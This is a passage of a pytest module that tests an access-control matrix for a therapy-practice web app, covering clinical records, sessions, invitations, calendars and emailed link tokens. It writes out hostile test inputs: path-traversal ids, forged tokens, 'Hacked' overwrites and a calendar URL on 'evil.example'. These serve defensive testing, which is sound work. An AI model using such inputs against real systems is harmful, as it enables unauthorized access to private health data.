"""Attacks over HTTP: who may do what to which object, and what a stranger can break.

The matrix of access is made from the program's own table of routes; a route that it does not know is a fault.
"""

import base64
import concurrent.futures
import datetime
import http.client
import json
import re
import socket
import statistics
import time
import uuid
import zoneinfo
from dataclasses import dataclass
from typing import Callable
from urllib.parse import quote

import pytest

from house import HTML, PASSWORD, Case, House, Person, Town, Visitor, one_time_code, routes
from mailbox import Mailbox
from stands import Stand

ROUTES = {f"{entry['method']} {entry['path']}": entry["access"] for entry in routes()}
OPEN = [route for route, access in ROUTES.items() if access == "open"]
UNSAFE = [route for route in ROUTES if not route.startswith("GET")]
NOWHERE = str(uuid.UUID(int=0x1234))
POLICY = {
    "Content-Security-Policy": "frame-ancestors 'none'",
    "X-Content-Type-Options": "nosniff",
    "Referrer-Policy": "no-referrer",
    "X-Frame-Options": "DENY",
    "Cross-Origin-Opener-Policy": "same-origin",
}
CASE = {"drawing": [{"zone": "trunk/low_back/lower_low_back", "side": "right", "intensity": 6}]}


@pytest.fixture(scope="module")
def town():
    mailbox = Mailbox()
    house = House(mailbox.settings)
    try:
        town = Town(house)
        town.open_stands(mailbox)
        yield town
    finally:
        house.stop()
        mailbox.stop()


@pytest.fixture(scope="module")
def house(town):
    return town.house


@pytest.fixture(scope="module")
def cells():
    """How many cells of the matrix were tried."""
    count = {"cells": 0}
    yield count
    print(f"\n{count['cells']} cells of the access matrix")


# 1. The matrix: every route, every actor, every object


@dataclass
class Actor:
    """Someone who asks; `person` is nobody for those who are not signed in."""

    name: str
    visitor: Visitor
    person: Person | None = None

    def is_in(self, *roles, practice=None):
        return self.person is not None and self.person.role in roles and practice in (None, self.person.practice)


@dataclass
class Thing:
    """What a route acts on."""

    label: str
    id: str
    practice: int = 0
    case: Case | None = None
    person: Person | None = None
    stand: Stand | None = None
    known: tuple = ()  # Markers that whoever holds this may see.
    arriving: str = ""  # A recording that is on its way.


@dataclass
class Rule:
    """Who may use a route (`True`, `False` or "wrong" for an error of a field), on what, and how it is called."""

    may: Callable
    things: Callable = lambda town, actor: [Thing("none", "")]
    fields: Callable | None = None
    answers: tuple = (200,)


def staff(actor, thing):
    return actor.is_in("owner", "therapist", "assistant")


def anybody(actor, thing):
    return actor.person is not None


def owner(actor, thing):
    return actor.is_in("owner")


def owner_there(actor, thing):
    return actor.is_in("owner", practice=thing.practice)


def treats(actor, thing):
    return thing.case is not None and actor.person is not None and actor.person is thing.case.therapist


def reads(actor, thing):
    case = thing.case
    return (
        case is not None
        and actor.person is not None
        and (
            actor.is_in("owner", "assistant", practice=case.practice)
            or actor.person in (case.therapist, case.broken_by, case.account)
        )
    )


def reads_at_work(actor, thing):
    return staff(actor, thing) and reads(actor, thing)


def edits(actor, thing):
    case = thing.case
    return case is not None and (actor.is_in("owner", "assistant", practice=case.practice) or treats(actor, thing))


def charts(actor, thing):
    """Who writes in a record."""
    case = thing.case
    return case is not None and (actor.is_in("owner", practice=case.practice) or treats(actor, thing))


def reads_record(actor, thing):
    return reads(actor, thing) and not actor.is_in("assistant")


def reads_record_at_work(actor, thing):
    return staff(actor, thing) and reads_record(actor, thing)


def creates(actor, thing):
    """Owner and assistant for whoever treats in their practice, therapists for themselves."""
    if not staff(actor, thing):
        return False
    if actor.is_in("therapist"):
        return thing.person is actor.person
    person = thing.person
    return person is not None and person.practice == actor.person.practice and person.role != "assistant" or "wrong"


def breaks(actor, thing):
    return thing.case is not None and actor.is_in("therapist", practice=thing.case.practice)


def cases(town, actor):
    found = [Thing(key, case.id, case.practice, case=case) for key, case in town.cases.items()]
    return [*found, Thing("missing", NOWHERE), Thing("odd", "..%2f1"), Thing("longer", town.cases["mine"].id + "0")]


def fresh_visits(town, actor):
    """A visit without a signature in every record."""
    for case in town.cases.values():
        rows = town.house.change("SELECT 1 FROM entry WHERE visit = ? AND kind = 'signature'", case.visit)
        if rows:
            town.house.chart(case, town.head(case).visitor)
    return cases(town, actor)


def disposable(town, actor):
    """A client that may go, in each practice."""
    things = []
    for host in (town.owner, town.olga):
        rows = town.house.change("SELECT client FROM tombstone")
        key = f"spare{host.practice}"
        if key not in town.open or (town.open[key].id,) in rows:
            spare = Case(host.practice, host, f"Sparenm{uuid.uuid4().hex[:6]} Gone", "", "", "Sparenote", "Sparediary")
            answer = host.visitor.api(
                "POST", "/api/clients", {"name": spare.name}, {"Idempotency-Key": str(uuid.uuid4())}
            )
            spare.id = answer.json["id"]
            town.open[key] = spare
        things.append(Thing(key, town.open[key].id, host.practice, case=town.open[key]))
    return [*things, Thing("missing", NOWHERE)]


def accounts(town, actor):
    found = [Thing(key, one.id, one.practice, person=one) for key, one in town.people.items()]
    return [*found, Thing("missing", NOWHERE), Thing("a client", town.cases["mine"].id)]


def therapists(town, actor):
    return [
        thing for thing in accounts(town, actor) if thing.label in ("owner", "anna", "bert", "asta", "xeno", "missing")
    ]


def fresh_sessions(town, actor):
    """A spare session of everybody, made anew where the last one was ended."""
    things, change = [], town.house.change
    for key, person in town.people.items():
        if person is town.dora:
            continue
        number = str(uuid.uuid5(uuid.NAMESPACE_URL, key))
        change(
            "INSERT OR IGNORE INTO session (id, token, account, practice, created, seen, expires, device, proved)"
            " SELECT ?, randomblob(32), account, practice, created, seen, expires, device, proved FROM session"
            " WHERE account = ? LIMIT 1",
            number,
            person.id,
        )
        things.append(Thing(key, number, person.practice, person=person))
    return [*things, Thing("missing", NOWHERE)]


def fresh_invitations(town, actor):
    things = []
    for key, host in (("here", town.owner), ("there", town.olga)):
        if key not in town.open or Visitor(town.house.port).get(f"/join?t={town.open[key][1]}").status != 200:
            town.open[key] = town.invitation(host)
        things.append(Thing(key, town.open[key][0], host.practice))
    return [*things, Thing("missing", NOWHERE)]


def fresh_glass(town, actor):
    for therapist, case, host in ((town.bert, "glass", town.owner), (town.xeno, "theirs", town.olga)):
        if not town.glass(host):
            town.break_glass(therapist, town.cases[case], host)
    here, there = town.glass(town.owner)[0], town.glass(town.olga)[0]
    return [Thing("here", here, 1), Thing("there", there, 2), Thing("missing", NOWHERE)]


def harmless_cases(town, actor):
    """Where breaking the glass changes nothing that another cell counts on."""
    return [thing for thing in cases(town, actor)[:-2] if not breaks(actor, thing) or reads(actor, thing)]


def tokens(purpose):
    """Links of the right and of every wrong kind."""

    def things(town, actor):
        known = ("Tkname1qz", "tkmail1qz") if purpose == "invitation" else ()
        good = [Thing("good", town.links[purpose], 1, known=known)] if purpose in town.links else []
        # The form before a visit stands where the form of a client stands; both write and show nothing.
        alike = {"intake": "form"}.get(purpose)
        others = [Thing(kind, token) for kind, token in town.links.items() if kind not in (purpose, alike)]
        flipped = town.links.get(purpose, town.links["diary"])
        flipped = flipped[:-2] + ("A" if flipped[-2] != "A" else "B") + flipped[-1]
        return [*good, *others, Thing("forged", flipped), Thing("empty", ""), Thing("long", "v1." + "A" * 3000)]

    return things


def good_token(actor, thing):
    return thing.label == "good"


def case_fields(town, actor, thing, allowed):
    case = thing.case
    if case is None:
        return {"version": "1", "name": "Hacked", "note": "Hacked"}
    etag = town.head(case).visitor.api("GET", f"/api/clients/{case.id}").header("ETag").strip('"')
    same = {
        "version": etag,
        "name": case.name,
        "mail": case.mail,
        "phone": case.phone,
        "born": "1980-05-31",
        "note": case.note,
        "status": "active",
    }
    return same if allowed else same | {"name": "Hacked", "note": "Hacked"}


def member_fields(town, actor, thing, allowed):
    person = thing.person
    if person is None:
        return {"version": "1", "name": "Hacked", "role": "therapist", "status": "disabled"}
    version, status = town.house.change("SELECT version, status FROM account WHERE id = ?", person.id)[0]
    same = {"version": version, "name": person.name, "role": person.role, "status": status}
    return same if allowed else same | {"name": "Hacked", "status": "disabled"}


def practice_fields(town, actor, thing, allowed):
    own = town.olga if actor.person is town.olga else town.owner
    name = {1: "Practnmone", 2: "Practnmtwo"}[own.practice]
    version = own.visitor.get("/practice").hidden("version")
    return {"practice_name": name if allowed else "Hacked", "time_zone": "Europe/Berlin", "version": version}


def new_client(town, actor, thing, allowed):
    return {"name": "Newcomer Added", "therapist": thing.id, "key": str(uuid.uuid4())}


def place(thing):
    return {"complaint": thing.case.complaint if thing.case else NOWHERE}


def new_note(town, actor, thing, allowed):
    visit = thing.case.visit if thing.case else NOWHERE
    body = {"part": "plan", "text": thing.case.note if allowed and thing.case else "Hacked"}
    return {"entries": [{"id": str(uuid.uuid4()), "kind": "note", "visit": visit, "body": body, **place(thing)}]}


def new_hold(town, actor, thing, allowed):
    words = {"source": "muscle:soleus", "side": "right", "technique": "pressure_release"}
    return words | {"point": 1, "low": 60, "high": 90, "moments": []}


def new_complaint(town, actor, thing, allowed):
    return {"key": str(uuid.uuid4()), "title": thing.case.note if allowed else "Hacked"}


def same_complaint(town, actor, thing, allowed):
    if thing.case is None:
        return {"version": "1", "title": "Hacked"}
    rows = town.house.change("SELECT MAX(version) FROM entry WHERE entry = ?", thing.case.complaint)
    return {"version": rows[0][0], "title": thing.case.note if allowed else "Hacked"}


def new_event(town, actor, thing, allowed):
    return {"key": str(uuid.uuid4()), "kind": "other", "day": "2026-05-31", "text": "Hacked"}


def asked_at_home(town, actor, thing, allowed):
    return {**same_complaint(town, actor, thing, allowed), "psfs": "7", "peg": "14", "pgic": "0", "now": "yes"}


def struck_again(town, actor, thing, allowed):
    return {"struck": True, "reason": thing.case.note if allowed and thing.case else "Hacked"}


def struck_by_form(town, actor, thing, allowed):
    return {"act": "strike", "reason": "Mistyped" if allowed else "Hacked", "version": "0"}


def arriving(town, actor):
    """A recording on its way, of two bytes, in every record; made anew where the last one was taken away."""
    things = []
    for thing in cases(town, actor):
        if thing.case is None:
            things.append(thing)
            continue
        rows = town.house.change("SELECT id FROM recording WHERE client = ? AND state = 'arriving'", thing.id)
        if not rows:
            path = f"/api/clients/{thing.id}/visits/{thing.case.visit}/recordings"
            files = {"files": [{"name": f"{thing.case.note}.csv", "bytes": 2}]}
            answer = town.head(thing.case).visitor.api("POST", path, files)
            assert answer.status == 201, answer.text
            rows = [[answer.json["id"]]]
        things.append(Thing(thing.label, thing.id, thing.practice, case=thing.case, arriving=rows[0][0]))
    return things


def new_recording(town, actor, thing, allowed):
    return {"files": [{"name": "new.csv", "bytes": 2}]}


def no_recording(town, actor, thing, allowed):
    return {"rate": "200", "unit": "uV", "files": {"file": b"nothing to read"}}


def marks(town, actor, thing, allowed):
    if thing.case is None:
        return {"version": "1", "channel": "1", "holds": "4-8", "reason": "again"}
    rows = town.house.change("SELECT MAX(version) FROM entry WHERE entry = ?", thing.case.recorded)
    # Some visits are signed by now.
    return {"version": rows[0][0], "channel": "1", "holds": "4-8", "reason": "again"}


def given(**values):
    return lambda town, actor, thing, allowed: values


LINKS = {
    "/setup": "setup",
    "/join": "invitation",
    "/password": "password",
    "/intake": "intake",
    "/diary": "diary",
    "/diary/questions": "diary",
}
RULES = {
    "GET /account": Rule(anybody),
    "POST /account/password": Rule(anybody, fields=given(current="wrong", password=PASSWORD + " x"), answers=(422,)),
    "GET /account/second-factor": Rule(anybody),
    "POST /account/second-factor": Rule(anybody, fields=given(secret="A" * 32, code="abcdef"), answers=(422,)),
    "POST /account/second-factor/remove": Rule(anybody, fields=given(current="wrong"), answers=(422,)),
    "POST /account/sessions/end-others": Rule(anybody, fields=given(), answers=(303,)),
    "POST /account/sessions/{id}/end": Rule(
        lambda actor, thing: actor.person is not None and actor.person is thing.person or owner_there(actor, thing),
        fresh_sessions,
        given(),
        (303,),
    ),
    "GET /api/clients": Rule(staff),
    "POST /api/clients": Rule(creates, therapists, new_client, (201,)),
    "GET /api/clients/{id}": Rule(reads, cases),
    "PUT /api/clients/{id}": Rule(edits, cases, case_fields),
    "GET /audit": Rule(owner),
    "GET /backup": Rule(owner),
    "GET /clients": Rule(staff),
    "POST /clients": Rule(creates, therapists, new_client, (303,)),
    "GET /clients/glass": Rule(staff),
    "POST /clients/glass": Rule(
        breaks,
        harmless_cases,
        lambda town, actor, thing, allowed: {"client": thing.id, "reason": "Nobody else can be reached now"},
        (303,),
    ),
    "GET /clients/new": Rule(staff),
    "GET /clients/{id}": Rule(reads_at_work, cases),
    "POST /clients/{id}": Rule(edits, cases, case_fields, (303,)),
    "GET /clients/{id}/edit": Rule(reads_at_work, cases),
    "POST /clients/{id}/invite": Rule(owner_there, cases, given()),
    "POST /clients/{id}/link": Rule(edits, cases, given()),
    "GET /api/clients/{id}/entries": Rule(reads_record, cases),
    "POST /api/clients/{id}/entries": Rule(charts, fresh_visits, new_note, (201,)),
    "POST /api/clients/{id}/entries/{entry}/strike": Rule(charts, cases, struck_again),
    "GET /clients/{id}/entries/{entry}/strike": Rule(charts, cases),
    "POST /clients/{id}/entries/{entry}/strike": Rule(charts, cases, struck_by_form, (303,)),
    "GET /clients/{id}/complaints/{complaint}/entries": Rule(reads_record_at_work, cases),
    "PUT /api/clients/{id}/visits/{visit}/holds/{hold}": Rule(charts, fresh_visits, new_hold),
    "GET /clients/{id}/visits/{visit}/recordings": Rule(reads_record_at_work, cases),
    "POST /clients/{id}/visits/{visit}/recordings": Rule(charts, cases, no_recording, (422,)),
    "GET /clients/{id}/recordings/{recorded}": Rule(reads_record_at_work, cases),
    "POST /clients/{id}/recordings/{recorded}": Rule(charts, cases, marks, (303,)),
    "GET /clients/{id}/recordings/{recorded}/files/{file}": Rule(reads_record_at_work, cases),
    "GET /clients/{id}/recordings/{recorded}/report.json": Rule(reads_record_at_work, cases),
    "POST /api/clients/{id}/visits/{visit}/recordings": Rule(charts, cases, new_recording, (201,)),
    "PUT /api/clients/{id}/recordings/{recording}/files/{file}/parts/{part}": Rule(charts, arriving, given(), (204,)),
    "POST /api/clients/{id}/recordings/{recording}/reading": Rule(charts, arriving, given(), (202, 409)),
    "GET /api/clients/{id}/recordings/{recording}/work": Rule(staff, cases),
    "DELETE /api/clients/{id}/recordings/{recording}/work": Rule(staff, cases, given(), (204,)),
    "DELETE /api/clients/{id}/recordings/{recording}": Rule(charts, arriving, given(), (204,)),
    # Without what is asked for the answer is an error of a field, for whoever may look.
    "GET /api/clients/{id}/recordings/{recording}/trace": Rule(reads_record_at_work, cases, answers=(422,)),
    "POST /api/clients/{id}/visits/{visit}/signature": Rule(charts, fresh_visits, given(), (201,)),
    "POST /api/clients/{id}/visits/{visit}/tap-link": Rule(edits, cases, given(), (201,)),
    "GET /api/clients/{id}/visits/{visit}/draft": Rule(reads_record_at_work, cases),
    "POST /api/hold": Rule(
        good_token, tokens("hold"), lambda town, actor, thing, allowed: {"t": thing.id, "moments": []}
    ),
    "GET /hold": Rule(good_token, tokens("hold")),
    "GET /today": Rule(staff),
    "POST /clients/{id}/complaints": Rule(charts, cases, new_complaint, (303,)),
    "GET /clients/{id}/complaints/{complaint}": Rule(reads_record_at_work, cases),
    "POST /clients/{id}/complaints/{complaint}": Rule(charts, cases, same_complaint, (303,)),
    "POST /clients/{id}/complaints/{complaint}/visits": Rule(
        charts, cases, lambda town, actor, thing, allowed: {"key": str(uuid.uuid4())}, (303,)
    ),
    "POST /clients/{id}/complaints/{complaint}/diary-link": Rule(charts, cases, given()),
    "POST /clients/{id}/complaints/{complaint}/questions": Rule(charts, cases, asked_at_home, (303,)),
    "POST /clients/{id}/complaints/{complaint}/events": Rule(charts, cases, new_event, (303,)),
    "GET /clients/{id}/complaints/{complaint}/programme": Rule(reads_record_at_work, cases),
    "POST /clients/{id}/complaints/{complaint}/programme": Rule(
        charts,
        cases,
        lambda town, actor, thing, allowed: {"entry": str(uuid.uuid4()), "version": "0", "text": "Rest"},
        (303,),
    ),
    "GET /clients/{id}/complaints/{complaint}/programme/sheet": Rule(reads_record_at_work, cases),
    "POST /api/clients/{id}/complaints/{complaint}/letters": Rule(charts, cases, given(drawing=[{"zone": "upper_limb/shoulder/anterior_deltoid", "side": "right", "intensity": 5, "quality": []}]), (201,)),
    "GET /clients/{id}/complaints/{complaint}/letters/{letter}": Rule(reads_record_at_work, cases),
    "POST /clients/{id}/complaints/{complaint}/causes": Rule(charts, cases, given(c_smoking="no"), (303,)),
    "GET /clients/{id}/visits/{visit}": Rule(reads_record_at_work, cases),
    "GET /clients/{id}/visits/{visit}/note": Rule(reads_record_at_work, cases),
    "GET /clients/{id}/consent": Rule(reads_record_at_work, cases),
    "POST /clients/{id}/consent": Rule(
        charts,
        cases,
        lambda town, actor, thing, allowed: {
            "key": str(uuid.uuid4()),
            "kind": "photos",
            "answer": "no",
            "text": thing.case.note if allowed and thing.case else "Hacked",
        },
        (303,),
    ),
    "GET /clients/{id}/erase": Rule(owner_there, cases),
    "POST /clients/{id}/erase": Rule(
        owner_there,
        disposable,
        lambda town, actor, thing, allowed: {"name": thing.case.name if thing.case else "x"},
        (303,),
    ),
    "POST /glass/{id}/noted": Rule(owner_there, fresh_glass, given(), (303,)),
    "GET /my-record": Rule(lambda actor, thing: actor.is_in("client")),
    "GET /practice": Rule(owner),
    "POST /practice": Rule(owner, fields=practice_fields),
    "GET /statistics": Rule(owner),
    "POST /statistics": Rule(owner, fields=given(), answers=(303,)),
    "POST /sign-out": Rule(anybody, fields=given(), answers=(303,)),
    "GET /team": Rule(staff),
    "POST /team/invitations/{id}/revoke": Rule(owner_there, fresh_invitations, given(), (303,)),
    "POST /team/invite": Rule(owner, fields=given(name="Invited Person", mail="inv@new.example", role="therapist")),
    "GET /team/{id}": Rule(owner_there, accounts),
    "POST /team/{id}": Rule(owner_there, accounts, member_fields, (303,)),
    "POST /team/{id}/password-link": Rule(owner_there, accounts, given()),
}
for path, purpose in LINKS.items():
    RULES[f"GET {path}"] = Rule(good_token, tokens(purpose))
    # What a good link does is tried further below; here it is kept.
    RULES[f"POST {path}"] = Rule(
        lambda actor, thing: False,
        lambda town, actor, purpose=purpose: (
            tokens(purpose)(town, actor)[1:] if purpose in town.links else tokens(purpose)(town, actor)
        ),
        lambda town, actor, thing, allowed: {
            "t": thing.id,
            "text": "Hacked",
            "name": "Hacked",
            "password": PASSWORD + " x",
            "practice_name": "Hacked",
            "time_zone": "UTC",
            "mail": "hacked@evil.example",
        },
    )
# Rules of the desk: who keeps whose page and calendar


def manages(actor, thing):
    """Who keeps a page: the owner, and the therapist whose page it is."""
    stand = thing.stand
    return (
        stand is not None
        and actor.person is not None
        and (actor.is_in("owner", practice=stand.practice) or actor.person is stand.therapist)
    )


def keeps_calendar(actor, thing):
    stand = thing.stand
    return stand is not None and (manages(actor, thing) or actor.is_in("assistant", practice=stand.practice))


def seen_there(actor, thing):
    """Everybody who works in a practice sees what is booked there, and with whom."""
    return thing.stand is not None and staff(actor, thing) and actor.person.practice == thing.stand.practice


def treats_there(actor, thing):
    return seen_there(actor, thing) and not actor.is_in("assistant")


def treating(actor, thing):
    return actor.is_in("owner", "therapist")


def steward(actor, thing):
    return actor.person is not None and actor.name.startswith("steward")


def steward_of_another(actor, thing):
    """Nobody decides on the own training, nor on words about the own work."""
    return steward(actor, thing) and thing.stand is not None and thing.stand.therapist is not actor.person


def manages_or_checks(actor, thing):
    return thing.stand is not None and (manages(actor, thing) or steward(actor, thing))


def wrong(rule):
    """Whoever may sends something that is named as wrong; nothing is made."""
    return lambda actor, thing: rule(actor, thing) and "wrong"


def stands(kind):
    def things(town, actor):
        found = [
            Thing(key, getattr(stand, kind), stand.practice, stand=stand) for key, stand in town.stands.items()
        ]
        other = town.stands["here"].place if kind == "practitioner" else town.stands["here"].practitioner
        return [*found, Thing("missing", NOWHERE), Thing("of another kind", other), Thing("odd", "..%2f1")]

    return things


def waiting_trainings(town, actor):
    town.house.change(
        "UPDATE training SET status = 'submitted', checked_by = NULL, checked_name = NULL, method = NULL,"
        " checked_at = NULL, check_note = NULL WHERE title LIKE 'Trwait%'"
    )
    return stands("waiting_training")(town, actor)


def experiences(status):
    def things(town, actor):
        town.house.change(f"UPDATE experience SET status = '{status}'")
        return stands("experience")(town, actor)

    return things


def all_waiting(town, actor):
    """Everything that waits for a steward."""
    waiting_trainings(town, actor)
    experiences("submitted")(town, actor)
    return [Thing("none", "", known=("Practnmone", "Practnmtwo", *checked_words(town)) if steward(actor, None) else ())]


def checked_words(town):
    return [word for stand in town.stands.values() for word in (stand.told, stand.evidence)]


def absences(town, actor):
    for stand in town.stands.values():
        stand.absence(town.house)
    return stands("practitioner")(town, actor)


def fresh_feeds(town, actor):
    stand = town.stands["here"]
    token = stand.therapist.visitor.form(f"{stand.page}/feed").link.split("/feeds/")[1]
    seen = (stand.client, stand.client.split()[0])
    return [
        Thing("good", token, 1, known=seen),
        Thing("without an ending", token.removesuffix(".ics")),
        Thing("forged", ("A" if token[0] != "A" else "B") + token[1:]),
        *(Thing(kind, f"{other}.ics") for kind, other in town.links.items()),
        Thing("long", "A" * 3000 + ".ics"),
    ]


def page_fields(town, actor, thing, allowed):
    if thing.stand is None:
        return {"version": 1, "name": "Hacked", "status": "hidden", "mode": "view"}
    version = thing.stand.version(town.house, "practitioner")
    return thing.stand.page_fields(version, **({} if allowed else {"name": "Hacked", "status": "hidden"}))


def hours_fields(town, actor, thing, allowed):
    if thing.stand is None:
        return {"zone": "UTC", "version": 1}
    hours = thing.stand.hours(thing.stand.version(town.house, "practitioner"))
    return hours if allowed else hours | {"week_1": ""}


def service_fields(town, actor, thing, allowed):
    stand = thing.stand or town.stands["here"]
    fields = stand.service_fields(stand.version(town.house, "service"))
    return fields | ({"service_name": ""} if allowed == "wrong" else {} if allowed else {"price": "Hacked"})


def place_fields(town, actor, thing, allowed):
    name = f"Place {thing.stand.key}" if thing.stand else "Hacked"
    version = thing.stand.version(town.house, "place") if thing.stand else 1
    fields = {"place_name": name, "kind": "room", "address": "Quay 4", "town": "Graz, Austria", "version": version}
    return fields if allowed else fields | {"place_name": "Hacked", "place_note": "Hacked"}


def training_fields(town, actor, thing, allowed):
    fields = (thing.stand or town.stands["here"]).training_fields
    return {"files": {}, **fields, "title": "" if allowed else "Hacked"}


def visit_fields(town, actor, thing, allowed):
    """A visit in the first hour of a day far away; those who may, name no day."""
    case = thing.stand.case if thing.stand else None
    day = "" if allowed else "2027-03-01"
    service = thing.stand.service if thing.stand else NOWHERE
    client = case.id if case else NOWHERE
    return {"service": service, "client": client, "day": day, "time": "01:00", "key": str(uuid.uuid4())}


def moved_fields(town, actor, thing, allowed):
    """To the time it has; to another one for those who may not."""
    number = thing.stand.appointment if thing.stand else NOWHERE
    rows = town.house.change("SELECT starts FROM appointment WHERE id = ?", number)
    start = datetime.datetime.fromtimestamp(rows[0][0] if rows else time.time(), zoneinfo.ZoneInfo("Europe/Berlin"))
    later = start if allowed else start + datetime.timedelta(hours=3)
    return {"day": later.date().isoformat(), "time": later.strftime("%H:%M")}


def tie_fields(town, actor, thing, allowed):
    case = thing.stand.case if thing.stand else None
    return {"client": case.id if case else "new"}


def same_or_hacked(name, same, hacked, **more):
    return lambda town, actor, thing, allowed: {name: same if allowed else hacked, **more}


def by_link(**values):
    return lambda town, actor, thing, allowed: {"t": thing.id, **values}


def same_start(town, actor, thing, allowed):
    rows = town.house.change("SELECT starts FROM appointment WHERE id = ?", town.stands["here"].appointment)
    start = datetime.datetime.fromtimestamp(rows[0][0], datetime.UTC)
    return {"t": thing.id, "start": start.strftime("%Y-%m-%dT%H:%M:%SZ")}


def kept_tokens(purpose):
    """Every link but the right one, so that it still works for others."""
    return lambda town, actor: tokens(purpose)(town, actor)[1:]


def named(town, things):
    """A calendar's entry says whose it is and who organizes it."""
    stand = town.stands["here"]
    for thing in things:
        if thing.label == "good":
            thing.known = (stand.client.split()[0], stand.mail, "Practnmone")
    return things


def never(actor, thing):
    return False


DESK = "/desk/practitioners/{id}"
DAY = "2027-06-01"
EMPTY_CALENDAR = "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//x//y//EN\r\nEND:VCALENDAR\r\n"
RULES |= {
    "GET /desk": Rule(staff),
    "POST /desk/practitioners": Rule(
        wrong(treating), fields=lambda town, actor, thing, allowed: {"name": "" if allowed else "Hacked"}
    ),
    f"GET {DESK}": Rule(seen_there, stands("practitioner")),
    f"POST {DESK}": Rule(manages, stands("practitioner"), page_fields, (303,)),
    f"POST {DESK}/hours": Rule(manages, stands("practitioner"), hours_fields, (303,)),
    f"POST {DESK}/absences": Rule(manages, stands("practitioner"), given(**{"from": DAY}), (303,)),
    f"POST {DESK}/absences/{{absence}}/remove": Rule(manages, absences, given(), (303,)),
    f"POST {DESK}/calendar": Rule(
        manages, stands("practitioner"), same_or_hacked("address", "", "http://evil.example/x.ics"), (303,)
    ),
    f"POST {DESK}/calendar-file": Rule(manages, stands("practitioner"), given(file=EMPTY_CALENDAR), (303,)),
    f"POST {DESK}/feed": Rule(manages, stands("practitioner"), given()),
    f"GET {DESK}/experiences": Rule(manages, stands("practitioner")),
    f"GET {DESK}/services/new": Rule(manages, stands("practitioner")),
    f"POST {DESK}/services": Rule(wrong(manages), stands("practitioner"), service_fields),
    "GET /desk/services/{id}": Rule(seen_there, stands("service")),
    "POST /desk/services/{id}": Rule(manages, stands("service"), service_fields, (303,)),
    "GET /desk/places/new": Rule(staff),
    "GET /desk/places/{id}": Rule(seen_there, stands("place")),
    "POST /desk/places": Rule(
        wrong(treating),
        fields=lambda town, actor, thing, allowed: {"place_name": "" if allowed else "Hacked", "kind": "room"}
        | {"town": "Graz, Austria"},
    ),
    "POST /desk/places/{id}": Rule(treats_there, stands("place"), place_fields, (303,)),
    "POST /desk/experiences/{id}/reply": Rule(
        manages, experiences("approved"), same_or_hacked("reply", "thanks", "sorry", practitioner="x"), (303,)
    ),
    "GET /desk/list": Rule(owner),
    "POST /desk/list": Rule(
        owner, fields=given(files={"file": b"name,town,country,issuer,title,issued\nx\n"})
    ),
    "GET /training": Rule(staff, answers=(303,)),
    "GET /training/{id}": Rule(seen_there, stands("practitioner")),
    "POST /training/{id}": Rule(wrong(manages), stands("practitioner"), training_fields),
    "GET /training/documents/{training}": Rule(manages_or_checks, stands("waiting_training")),
    "GET /checks": Rule(steward, all_waiting),
    "POST /checks/{training}": Rule(
        steward_of_another, waiting_trainings, given(decision="refuse", note="Not readable"), (303,)
    ),
    "GET /checks/experiences": Rule(steward, all_waiting),
    "POST /checks/experiences/{id}": Rule(
        steward_of_another, experiences("submitted"), given(decision="publish"), (303,)
    ),
    "GET /calendar": Rule(staff),
    "GET /calendar/new": Rule(staff),
    "POST /calendar": Rule(
        # The client has to be one that whoever books may see.
        lambda actor, thing: keeps_calendar(actor, thing) and (thing.stand.case is not None) and "wrong",
        lambda town, actor: stands("practitioner")(town, actor)[:2],
        visit_fields,
    ),
    "GET /calendar/{id}": Rule(keeps_calendar, stands("appointment")),
    "POST /calendar/{id}": Rule(
        keeps_calendar, stands("appointment"), same_or_hacked("status", "booked", "cancelled"), (303,)
    ),
    "POST /calendar/{id}/move": Rule(keeps_calendar, stands("appointment"), moved_fields, (303,)),
    "POST /calendar/{id}/client": Rule(keeps_calendar, stands("appointment"), tie_fields, (303,)),
    "GET /newsletters": Rule(owner),
    "POST /newsletters": Rule(
        wrong(owner),
        fields=lambda town, actor, thing, allowed: {"topic": "news", "subject": "" if allowed else "Hacked"}
        | {"text": "Hacked", "key": str(uuid.uuid4())},
    ),
    # Links of mails.
    "GET /visit": Rule(good_token, tokens("visit")),
    "GET /visit.ics": Rule(good_token, lambda town, actor: named(town, tokens("visit")(town, actor))),
    "GET /visit/move": Rule(good_token, tokens("visit")),
    "POST /visit/confirm": Rule(good_token, tokens("visit"), by_link(), (303,)),
    "POST /visit/move": Rule(good_token, tokens("visit"), same_start, (303,)),
    "POST /visit/reminders": Rule(good_token, tokens("visit"), by_link(reminders="on"), (303,)),
    "POST /visit/cancel": Rule(never, kept_tokens("visit"), by_link()),
    "GET /wait": Rule(good_token, tokens("wait")),
    "POST /wait/confirm": Rule(good_token, tokens("wait"), by_link(), (303,)),
    "POST /wait/leave": Rule(never, kept_tokens("wait"), by_link()),
    "GET /experience": Rule(good_token, tokens("experience")),
    "POST /experience": Rule(never, kept_tokens("experience"), by_link(rating="1", text="Hacked")),
    "POST /experience/withdraw": Rule(never, kept_tokens("experience"), by_link()),
    "GET /newsletter/confirm": Rule(good_token, tokens("newsletter")),
    "POST /newsletter/confirm": Rule(good_token, tokens("newsletter"), by_link()),
    "GET /newsletter/leave": Rule(good_token, tokens("newsletter")),
    "POST /newsletter/leave": Rule(never, kept_tokens("newsletter"), by_link()),
    "GET /feeds/{token}": Rule(good_token, fresh_feeds),
}
MULTIPART = ["POST /desk/list", "POST /training/{id}", "POST /clients/{id}/visits/{visit}/recordings"]

FORMS = {  # The bodies of open routes.
    "POST /sign-in": ({"mail": "nobody@evil.example", "password": "wrong"}, 422),
    "POST /sign-in/code": ({"code": "000000"}, 422),
    "POST /find": ({"place": "Graz"}, 200),
    "POST /book/{service}": ({"start": "x"}, 422),
    "POST /book/{service}/wait": ({"name": ""}, 422),
    "POST /newsletter/{practice}": ({"mail": ""}, 422),
}


def diary_link(town):
    case = town.cases["mine"]
    return town.anna.visitor.form(f"/clients/{case.id}/complaints/{case.complaint}/diary-link").token


def hold_link(town):
    """A link to a visit at which a hold runs."""
    case, start = town.cases["mine"], {"id": str(uuid.uuid4()), "kind": "start", "isClient": False}
    hold = new_hold(town, None, None, True) | {"moments": [start | {"at": int(time.time() * 1000)}]}
    where = f"/api/clients/{case.id}/visits/{case.visit}"
    assert town.anna.visitor.api("PUT", f"{where}/holds/{uuid.uuid4()}", hold).status == 200
    return town.anna.visitor.api("POST", f"{where}/tap-link").json["path"].split("?t=")[1]


@pytest.fixture(scope="module")
def actors(town):
    """Everybody who asks, and the things that they ask for."""
    house = town.house
    anna = town.anna.visitor
    town.links = {
        "invitation": town.invitation(town.owner)[1],
        "password": town.owner.visitor.form(f"/team/{town.bert.id}/password-link").token,
        "intake": anna.form(f"/clients/{town.cases['mine'].id}/link").token,
